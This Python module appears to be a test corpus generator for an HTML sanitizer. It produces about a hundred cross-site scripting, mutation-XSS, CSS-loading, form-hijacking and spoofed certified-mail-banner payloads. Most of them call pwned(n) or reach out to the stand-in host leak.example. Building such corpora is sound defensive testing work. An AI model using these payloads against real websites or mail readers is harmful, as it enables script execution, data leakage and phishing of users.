"""Payloads that try to run, to load or to leave, for whatever shows text of others in a browser: ours, made by rules.

Each calls `pwned(n)` or asks a host below `leak.example` in one of the ways in which that was done to mail readers:
handlers on elements, addresses that are scripts, documents inside, styles that load, forms, ways out of attributes and
comments, parsers that disagree, names of cases and odd white space.
"""

from collections.abc import Iterator
from typing import Final

_HANDLERS: Final = """
onload onerror onclick onmouseover onmouseenter onmousemove onfocus onfocusin onblur onanimationstart
onanimationend ontransitionend ontoggle onpointerover onpointerenter onwheel onscroll onbeforeinput
oninput onpaste oncopy ondrag onpageshow onhashchange onmessage onbegin onend onrepeat onstart onfinish
onbounce oncut onselectstart onresize onbeforetoggle onscrollend oncontentvisibilityautostatechange
onsearch onauxclick oncontextmenu
"""
_ELEMENTS: Final = (
    "<img src=x {h}=pwned({n})>",
    "<svg {h}=pwned({n})><animate attributeName=x dur=1s></svg>",
    "<body {h}=pwned({n})><p tabindex=1 autofocus>x</p>",
    '<div style="animation:x 1s" {h}="pwned({n})" tabindex=0 autofocus>x</div>',
    "<input autofocus {h}=pwned({n})>",
)
_SCRIPTS: Final = (
    "<script>pwned({n})</script>",
    "<ScRiPt >pwned({n})</sCrIpT >",
    "<script/x>pwned({n})</script>",
    "<script src=https://leak.example/{n}.js></script>",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'></noscript>",
    "<template><script>pwned({n})</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned({n})&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><script href='data:,pwned({n})'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned({n})>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned({n})</script>'></iframe></foreignObject></svg>",
    "<svg><a xlink:href='javascript:pwned({n})'><text y=9>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:pwned({n}) /><a id=x>y</a></svg>",
    "<svg><set attributeName=onmouseover to=pwned({n})></svg>",
    "<xmp><p title='</xmp><script>pwned({n})</script>'></xmp>",
    "<textarea><p title='</textarea><script>pwned({n})</script>'></textarea>",
    "<title><p title='</title><script>pwned({n})</script>'></title>",
    "<plaintext><script>pwned({n})</script>",
    "<!--><script>pwned({n})</script>-->",
    "<!-- --!><script>pwned({n})</script> -->",
    "<![CDATA[><script>pwned({n})</script>]]>",
    "<?xml version='1.0'?><script>pwned({n})</script>",
    "<%00script>pwned({n})</script>",
    "\x00<script>pwned({n})</script>",
    "<a href='javascript:pwned({n})'>x</a>",
    "<a href='JaVaScRiPt:pwned({n})'>x</a>",
    "<a href=' javascript:pwned({n})'>x</a>",
    "<a href='java\tscript:pwned({n})'>x</a>",
    "<a href='java&#10;script:pwned({n})'>x</a>",
    "<a href='&#106;avascript:pwned({n})'>x</a>",
    "<a href='\x01javascript:pwned({n})'>x</a>",
    "<a href='vbscript:pwned({n})'>x</a>",
    "<a href='data:text/html,<script>pwned({n})</script>'>x</a>",
    "<a href='//leak.example/{n}' ping='https://leak.example/{n}'>x</a>",
    "<area href='javascript:pwned({n})'>",
    "<iframe src='javascript:pwned({n})'></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<iframe src='https://leak.example/{n}'></iframe>",
    "<object data='javascript:pwned({n})'></object>",
    "<object data='https://leak.example/{n}'></object>",
    "<embed src='https://leak.example/{n}.swf'>",
    "<applet code=x codebase=https://leak.example/{n}></applet>",
    "<frameset onload=pwned({n})><frame src=https://leak.example/{n}></frameset>",
    "<meta http-equiv=refresh content='0;url=https://leak.example/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned({n})'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>pwned({n})</script>",
    "<base href='https://leak.example/{n}/'><img src=a.png>",
    "<link rel=stylesheet href='https://leak.example/{n}.css'>",
    "<link rel=prefetch href='https://leak.example/{n}'>",
    "<link rel=dns-prefetch href='//{n}.leak.example'>",
    "<link rel=import href='https://leak.example/{n}'>",
    "<style>@import 'https://leak.example/{n}.css';</style>",
    "<style>body{{background:url(https://leak.example/{n})}}</style>",
    "<style>@font-face{{font-family:x;src:url(https://leak.example/{n})}}p{{font-family:x}}</style><p>x</p>",
    "<p style='background:url(https://leak.example/{n})'>x</p>",
    "<p style='background-image:url(https://leak.example/{n})'>x</p>",
    "<p style='background:\\75rl(https://leak.example/{n})'>x</p>",
    "<p style='list-style:url(https://leak.example/{n})'>x</p>",
    "<p style='border-image:url(https://leak.example/{n})'>x</p>",
    "<p style='content:url(https://leak.example/{n})'>x</p>",
    "<p style='cursor:url(https://leak.example/{n}),auto'>x</p>",
    "<p style='width:expression(pwned({n}))'>x</p>",
    "<p style='-moz-binding:url(https://leak.example/{n}#x)'>x</p>",
    "<p style='behavior:url(https://leak.example/{n})'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>PEC VALIDA {n}</p>",
    "<table background='https://leak.example/{n}'><tr><td background='https://leak.example/{n}'>x</td></tr></table>",
    "<img src='https://leak.example/{n}.png'>",
    "<img srcset='https://leak.example/{n}.png 1x'>",
    "<img lowsrc='https://leak.example/{n}.png' dynsrc='https://leak.example/{n}.png'>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned({n})"/>\'>',
    "<img longdesc='https://leak.example/{n}' src='//leak.example/{n}.gif'>",
    "<picture><source srcset='https://leak.example/{n}.png'><img></picture>",
    "<video src='https://leak.example/{n}.mp4' poster='https://leak.example/{n}.png' autoplay></video>",
    "<audio src='https://leak.example/{n}.mp3' autoplay></audio>",
    "<video><track src='https://leak.example/{n}.vtt' default></video>",
    "<bgsound src='https://leak.example/{n}.mid'>",
    "<input type=image src='https://leak.example/{n}.png'>",
    "<form action='https://leak.example/{n}'><button autofocus>x</button></form>",
    "<form id=f action='javascript:pwned({n})'></form><button form=f>x</button>",
    "<button formaction='javascript:pwned({n})'>x</button>",
    "<isindex action='javascript:pwned({n})' type=image>",
    "<details open ontoggle=pwned({n})><summary>x</summary></details>",
    "<marquee onstart=pwned({n})>x</marquee>",
    "<dialog open onclose=pwned({n})><form method=dialog><button autofocus>x</button></form></dialog>",
    "<portal src='https://leak.example/{n}'></portal>",
    "<keygen autofocus onfocus=pwned({n})>",
    '"><img src=x onerror=pwned({n})>',
    "'><img src=x onerror=pwned({n})>",
    "</title><img src=x onerror=pwned({n})>",
    "</textarea><img src=x onerror=pwned({n})>",
    "</style><img src=x onerror=pwned({n})>",
    "</iframe><img src=x onerror=pwned({n})>",
    "--><img src=x onerror=pwned({n})>",
    "]]><img src=x onerror=pwned({n})>",
    "{{{{constructor.constructor('pwned({n})')()}}}}",
    "${{pwned({n})}}",
    "<div hx-get='https://leak.example/{n}' hx-trigger='load'>x</div>",
    "<div hx-on::load='pwned({n})' data-hx-on:click='pwned({n})'>x</div>",
    "<p id=trust class='trust trust-good' data-standing=certified>Messaggio di posta elettronica certificata {n}</p>",
    "<a href=https://leak.example/{n} target=_top autofocus>x</a>",
)


def payloads() -> Iterator[str]:
    """Give each payload once; its number is in it."""
    number = 0
    for handler in _HANDLERS.split():
        for element in _ELEMENTS:
            yield element.format(h=handler, n=number)
            number += 1
    for script in _SCRIPTS:
        yield script.format(n=number)
        number += 1
